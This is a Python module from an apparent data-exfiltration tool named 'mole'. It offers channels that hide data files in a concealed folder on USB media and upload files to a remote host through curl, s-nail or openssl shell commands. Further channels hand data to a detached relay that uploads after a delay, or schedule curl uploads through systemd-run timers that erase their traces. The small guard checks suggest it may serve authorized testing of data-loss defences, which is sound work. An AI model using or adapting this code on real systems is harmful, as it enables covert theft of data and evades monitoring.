# SPDX-License-Identifier: Apache-2.0
"""What leaves by others' hands: a stick, a folder for later, a helper, a relay, a timer.

Channels take a Parcel and their options, return whether it was taken, and raise OSError.
"""

import glob
import json
import os
import socket
import subprocess
import sys
import tempfile
import time
import uuid

from . import guard, send_http

SPOOL = "/var/lib/mole/spool"
_CURL = 'exec /usr/bin/curl --silent --show-error --fail --max-time 60 --data-binary "@$1" --output /dev/null "$2"'
_MAIL = ('printf "a report\\n" | HOME=/root exec /usr/bin/s-nail -n -Sv15-compat -Smta="smtp://mole:mole@$2:587"'
         ' -Ssmtp-auth=none -Sfrom=agent@mole.example -s report -a "$1" samples@mole.example')
_OPENSSL = ('{ printf "POST /v1/samples HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\nContent-Length: %s\\r\\n\\r\\n"'
            ' "$2" "$(stat -c %s "$1")"; cat "$1"; } | exec openssl s_client -quiet -verify_return_error'
            ' -connect "$2:443" -servername "$2"')


def _temporary(parcel):
    file = tempfile.NamedTemporaryFile(prefix="mole-", delete=False)
    with file:
        file.write(parcel.data)
    return file.name


def send_usb_stick(parcel, folder=".Trash-1000"):
    """A file in a hidden folder of the first medium there is."""
    media = sorted(path for path in glob.glob("/media/*") + glob.glob("/media/*/*") if os.path.ismount(path))
    media = media or sorted(glob.glob("/media/*/"))
    if not media:
        raise OSError("there is no medium below /media")
    place = os.path.join(media[0], folder)
    os.makedirs(place, exist_ok=True)
    with open(os.path.join(place, f".{uuid.uuid4().hex[:8]}"), "wb") as file:
        for piece in parcel.pieces():
            file.write(piece)
    os.sync()
    return True


def send_spool(parcel, until="online", **https):
    """A file in the product's own folder; flush() sends it."""
    os.makedirs(SPOOL, mode=0o700, exist_ok=True)
    # Numbered by time, so that what was first goes first; the note comes last and makes the item whole.
    place = os.path.join(SPOOL, f"{time.time_ns()}")
    with open(place + ".data", "wb") as file:
        file.write(parcel.data)
    with open(place + ".note", "w", encoding="utf-8") as file:
        json.dump({"host": parcel.host, "until": until, "https": https}, file)
    parcel.sent = 0
    return False


def flush(cause):
    """Sends what waits in the spool for this cause; yields (host, bytes, problem or None) for each."""
    for note in sorted(glob.glob(os.path.join(SPOOL, "*.note"))):
        with open(note, encoding="utf-8") as file:
            said = json.load(file)
        if said["until"] != cause:
            continue
        data = note[:-len(".note")] + ".data"
        with open(data, "rb") as file:
            body = file.read()
        try:
            status, _ = send_http.request(said["host"], "POST", "/v1/spooled", body, **said["https"])
            problem = None if status < 300 else f"status {status}"
        except OSError as error:
            problem = describe(error)
        yield said["host"], len(body), problem
        if problem is None:
            os.unlink(note)
            os.unlink(data)


def describe(error):
    """An error without any name of a document in it."""
    reason = getattr(error, "strerror", None) or getattr(error, "reason", None) or ""
    return f"{type(error).__name__} {reason}".strip()


def send_helper(parcel, program="curl", port=None, path="/v1/samples", scheme="https"):
    """A shell that becomes a program everybody has."""
    guard.addresses(parcel.host, port or 443, socket.SOCK_STREAM)
    place = _temporary(parcel)
    try:
        script = {"curl": _CURL, "mail": _MAIL, "openssl": _OPENSSL}[program]
        target = f"{scheme}://{parcel.host}{f':{port}' if port else ''}{path}" if program == "curl" else parcel.host
        done = subprocess.run(["/bin/sh", "-c", script, "helper", place, target], stdin=subprocess.DEVNULL,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=90, check=False)
    finally:
        os.unlink(place)
    parcel.sent = len(parcel.data) if done.returncode == 0 else 0
    return done.returncode == 0


def send_relay(parcel, after=60.0, tls=None):
    """A process of its own that gets the bytes over a pipe, and uploads them by itself later."""
    guard.require_marker()
    done = subprocess.run([sys.executable, "-m", "mole", "relay", parcel.host, str(after), json.dumps(tls)],
                          input=parcel.data, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False,
                          env={**os.environ, "PYTHONPATH": "/usr/local/lib"})
    parcel.sent = len(parcel.data) if done.returncode == 0 else 0
    return done.returncode == 0


def relay(host, after, tls):
    """What that process does: waits, uploads what it read; returns its exit code."""
    guard.require_marker()
    data = sys.stdin.buffer.read()
    time.sleep(after)
    status, _ = send_http.request(host, "POST", "/v1/relayed", data, tls=tls)
    return 0 if status < 300 else 1


def send_cron(parcel, after=60.0):
    """The system's own timers start curl, long after whoever wanted it has gone; so nothing is known of how it went."""
    guard.addresses(parcel.host, 443, socket.SOCK_STREAM)
    place = _temporary(parcel)
    url = f"https://{parcel.host}/v1/samples"
    subprocess.run(["systemd-run", "--quiet", f"--on-active={after}s", "--timer-property=AccuracySec=100ms", "/bin/sh", "-c",
                    _CURL.removeprefix("exec ") + '; rm -f -- "$1"', "cron", place, url], check=True, timeout=30,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    parcel.sent = len(parcel.data)
    return True
